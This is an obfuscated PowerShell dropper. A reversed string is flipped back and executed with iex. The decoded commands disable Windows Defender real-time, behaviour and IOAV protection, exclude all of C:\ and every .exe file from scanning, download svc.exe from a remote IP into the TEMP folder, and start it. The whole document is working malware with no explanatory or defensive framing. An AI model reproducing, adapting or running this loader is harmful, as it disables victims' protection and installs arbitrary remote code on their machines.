$vaggd='
"exe.cvs\PMET:vne$" ssecorP-tratS
)"exe.cvs\PMET:vne$" ,''exe.cvs/002.311.0.302//:ptth''(eliFdaolnwoD.)tneilCbeW.teN tcejbO-weN(
''exe.'' noisnetxEnoisulcxE- ecnereferPpM-ddA
''\:C'' htaPnoisulcxE- ecnereferPpM-ddA
eurt$ noitcetorPVAOIelbasiD- eurt$ gnirotinoMroivaheBelbasiD- eurt$ gnirotinoMemitlaeRelbasiD- ecnereferPpM-teS
1v 1300 tini #'; iex (-join $vaggd[-1..-($vaggd.Length)])